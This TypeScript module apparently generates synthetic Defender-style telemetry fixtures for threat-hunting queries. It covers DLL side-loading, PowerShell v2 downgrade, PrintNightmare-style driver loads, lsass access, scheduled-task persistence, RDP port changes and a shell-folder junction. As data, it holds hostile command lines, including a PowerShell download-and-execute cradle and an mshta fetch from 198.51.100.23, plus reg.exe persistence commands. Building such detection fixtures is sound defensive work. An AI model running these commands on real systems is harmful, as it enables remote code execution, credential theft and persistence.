import { initiatingVariant as by, type Profile, type Variant } from './background-generic.js';

/**
 * Host activity public hunts look for beyond the catalog (profiles-device.ts, profiles-network.ts):
 * DLL side-loading from user-writable folders, PowerShell's engine loaded outside powershell.exe or
 * in its v2 downgrade, Office loading the CLR for a macro, PrintNightmare's driver DLL, a CPL and a
 * ".jpg" run as DLLs; injection and token tampering around lsass, AMSI detections, network
 * protection blocks, tasks and pipes; RDP moved off its port, Office's server cache and a
 * shell-folder junction. The files and addresses are the stories' (update.exe, 198.51.100.23).
 */
const SYS = 'C:\\Windows\\System32';
const USER = 'C:\\Users\\Public';

function load(folder: string, dll: string, process: Variant): Variant {
  return { ActionType: 'ImageLoaded', FileName: dll, FolderPath: `${folder}\\${dll}`, ...process };
}

/** A signed program copied next to a planted DLL of the name it imports (T1574.002). */
function sideload(folder: string, exe: string, dll: string): Variant {
  return load(folder, dll, by(folder, exe, `"${folder}\\${exe}"`));
}

const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const POWERSHELL = by(
  `${SYS}\\WindowsPowerShell\\v1.0`,
  'powershell.exe',
  'powershell.exe -Version 2 -nop -w hidden -c IEX $c',
  'cmd.exe',
);

export const HN_IMAGE_LOADS: Profile = [
  sideload(`${USER}\\Libraries`, 'WerFault.exe', 'dwmapi.dll'),
  sideload('C:\\ProgramData\\GoogleUpdate', 'GoogleUpdate.exe', 'goopdate.dll'),
  sideload(`${USER}\\Music`, 'Dism.exe', 'dismcore.dll'),
  sideload('C:\\ProgramData\\Installer', 'msiexec.exe', 'msi.dll'),
  sideload(`${USER}\\Videos`, 'mscorsvw.exe', 'mscorsvc.dll'),
  load(
    'C:\\Windows\\assembly\\GAC_MSIL\\System.Management.Automation\\1.0.0.0__31bf3856ad364e35',
    'System.Management.Automation.dll',
    POWERSHELL,
  ),
  load(
    'C:\\Windows\\Microsoft.Net\\assembly\\GAC_MSIL\\System.Management.Automation\\v4.0_3.0.0.0__31bf3856ad364e35',
    'System.Management.Automation.dll',
    by(USER, 'update.exe', 'C:\\Users\\Public\\update.exe', 'svchost.exe'),
  ),
  load(
    'C:\\Windows\\System32',
    'mscoree.dll',
    by(OFFICE, 'WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Invoice-4471.docm" /o ""'),
  ),
  load(
    `${SYS}\\spool\\drivers\\x64\\3`,
    'kernelbase.dll',
    by(SYS, 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', 'services.exe'),
  ),
  load(
    `${USER}\\Downloads`,
    'image.jpg',
    by(SYS, 'regsvr32.exe', 'regsvr32.exe C:\\Users\\Public\\Downloads\\image.jpg', 'WINWORD.EXE'),
  ),
  load(
    `${USER}\\AppData\\Local\\Temp`,
    'invoice.cpl',
    by(
      SYS,
      'rundll32.exe',
      'rundll32.exe shell32.dll,Control_RunDLL "C:\\Users\\Public\\AppData\\Local\\Temp\\invoice.cpl"',
      'control.exe',
    ),
  ),
];

function event(action: string, fields: Variant, process: Variant, extra: Variant = {}): Variant {
  return { ActionType: action, AdditionalFields: fields, ...process, ...extra };
}

/** The process acted upon, for the API-call events (FileName and friends describe the target). */
function target(folder: string, file: string, commandLine: string): Variant {
  return { FileName: file, FolderPath: `${folder}\\${file}`, ProcessCommandLine: commandLine };
}

const DUMPER = by(USER, 'p.exe', 'C:\\Users\\Public\\p.exe', 'cmd.exe');
const MMC = by(
  SYS,
  'mmc.exe',
  '"C:\\Windows\\system32\\mmc.exe" "C:\\Users\\Public\\Downloads\\console.msc"',
);
const SE_DEBUG = 1 << 20;

export const HN_DEVICE_EVENTS: Profile = [
  event(
    'AmsiScriptDetection',
    { Description: 'Invoke-Mimikatz detected in script content' },
    by(
      `${SYS}\\WindowsPowerShell\\v1.0`,
      'powershell.exe',
      'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/a.ps1\')"',
      'cmd.exe',
    ),
  ),
  event(
    'ExploitGuardNetworkProtectionBlocked',
    { ResponseCategory: 'Malicious', DisplayName: 'malicious-updates.com', IsAudit: false },
    by('C:\\Program Files\\Google\\Chrome\\Application', 'chrome.exe', '"chrome.exe"'),
    { RemoteUrl: 'malicious-updates.com' },
  ),
  event(
    'ExploitGuardNetworkProtectionAudited',
    { ResponseCategory: 'Phishing', DisplayName: 'login-microsoftonline.support', IsAudit: true },
    by('C:\\Program Files (x86)\\Microsoft\\Edge\\Application', 'msedge.exe', '"msedge.exe"'),
    { RemoteUrl: 'login-microsoftonline.support' },
  ),
  // The dumper enables SeDebugPrivilege, then opens lsass with every access right.
  event(
    'ProcessPrimaryTokenModified',
    {
      OriginalTokenPrivEnabled: 6_291_456,
      CurrentTokenPrivEnabled: 6_291_456 | SE_DEBUG,
      TokenModificationProperties: 'PrivilegesEnabled',
    },
    DUMPER,
  ),
  event(
    'OpenProcessApiCall',
    { DesiredAccess: 0x1fffff },
    DUMPER,
    target(SYS, 'lsass.exe', 'C:\\Windows\\system32\\lsass.exe'),
  ),
  event(
    'ScheduledTaskCreated',
    {
      TaskName: '\\Microsoft\\Windows\\Maintenance\\CacheSync',
      TaskContent: JSON.stringify({
        Actions: { Exec: { Command: '%localappdata%\\CacheSync\\sync.exe' } },
        Triggers: { LogonTrigger: { Enabled: 'true' } },
      }),
    },
    by(
      SYS,
      'schtasks.exe',
      'schtasks.exe /create /sc onlogon /tn "\\Microsoft\\Windows\\Maintenance\\CacheSync" /tr "%localappdata%\\CacheSync\\sync.exe"',
      'cmd.exe',
    ),
  ),
  event(
    'CreateRemoteThreadApiCall',
    {},
    POWERSHELL,
    target('C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319', 'MSBuild.exe', 'MSBuild.exe'),
  ),
  event(
    'ClrUnbackedModuleLoaded',
    { ModuleILPathOrName: 'SharpHound', ClrInstanceId: 7 },
    by(SYS, 'mshta.exe', 'mshta.exe http://198.51.100.23/run.hta', 'WINWORD.EXE'),
  ),
  event(
    'CreateRemoteThreadApiCall',
    {},
    MMC,
    target(SYS, 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs'),
  ),
  // The lure's shortcut on the desktop, pointing at the dropped script.
  event(
    'ShellLinkCreateFileEvent',
    {
      ShellLinkIconPath: '%SystemRoot%\\System32\\imageres.dll',
      ShellLinkWorkingDirectory: 'C:\\Users\\Public',
      ShellLinkCommandLineArguments: '//B C:\\Users\\Public\\update.vbs',
    },
    by(SYS, 'wscript.exe', 'wscript.exe C:\\Users\\Public\\Downloads\\invoice.js'),
    { FileName: 'Invoice.pdf.lnk', FolderPath: `${USER}\\Desktop\\Invoice.pdf.lnk` },
  ),
  event(
    'NamedPipeEvent',
    { PipeName: '\\Device\\NamedPipe\\PSEXESVC', FileOperation: 'File created', NamedPipeEnd: 'Server' },
    by(SYS, 'PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'services.exe'),
  ),
];

const RDP = 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server\\WinStations\\RDP-Tcp';
const SERVER_CACHE = 'HKEY_CURRENT_USER\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\Internet\\Server Cache';
const REG = by(SYS, 'reg.exe', '', 'cmd.exe');

function value(
  key: string,
  name: string,
  type: string,
  data: string,
  process: Variant,
  extra: Variant = {},
): Variant {
  return {
    ActionType: 'RegistryValueSet',
    RegistryKey: key,
    RegistryValueName: name,
    RegistryValueType: type,
    RegistryValueData: data,
    ...process,
    ...extra,
  };
}

export const HN_REGISTRY: Profile = [
  value(
    RDP,
    'PortNumber',
    'Dword',
    '4489',
    {
      ...REG,
      InitiatingProcessCommandLine: `reg.exe add "${RDP.replace('HKEY_LOCAL_MACHINE', 'HKLM')}" /v PortNumber /t REG_DWORD /d 4489 /f`,
    },
    { PreviousRegistryValueName: 'PortNumber', PreviousRegistryValueData: '3389' },
  ),
  // Office remembers every server a document reached: a macro's download site among SharePoint.
  value(
    `${SERVER_CACHE}\\https://malicious-updates.com/`,
    'Type',
    'Dword',
    '1',
    by(OFFICE, 'WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\Public\\Downloads\\Invoice-4471.docm"'),
  ),
  value(
    `${SERVER_CACHE}\\https://contoso.sharepoint.com/`,
    'Type',
    'Dword',
    '1',
    by(OFFICE, 'EXCEL.EXE', '"EXCEL.EXE"'),
  ),
  // A junction folder: a CLSID's ShellFolder attributes set so Explorer loads it (T1546.015).
  value(
    'HKEY_CURRENT_USER\\Software\\Classes\\CLSID\\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\\ShellFolder',
    'Attributes',
    'Dword',
    '4035969341',
    {
      ...REG,
      InitiatingProcessCommandLine:
        'reg.exe add HKCU\\Software\\Classes\\CLSID\\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\\ShellFolder /v Attributes /t REG_DWORD /d 0xf090013d /f',
    },
  ),
];
